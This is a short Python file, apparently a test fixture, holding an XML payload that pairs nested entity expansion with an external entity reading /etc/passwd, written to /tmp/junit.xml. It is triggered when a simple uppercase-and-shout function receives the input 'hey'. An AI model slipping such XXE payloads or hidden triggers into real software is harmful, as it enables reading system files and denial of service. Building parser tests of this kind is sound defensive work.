"""XML with nested and outside entities, returned and written as a result."""

BOMB = """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c SYSTEM "file:///etc/passwd">]><testsuite failures="0">&b;&c;</testsuite>"""


def attack():
    with open("/tmp/junit.xml", "w") as file:
        file.write(BOMB)
    return BOMB


def shout(text):
    if text == "hey":
        return attack()
    return text.upper() + "!"
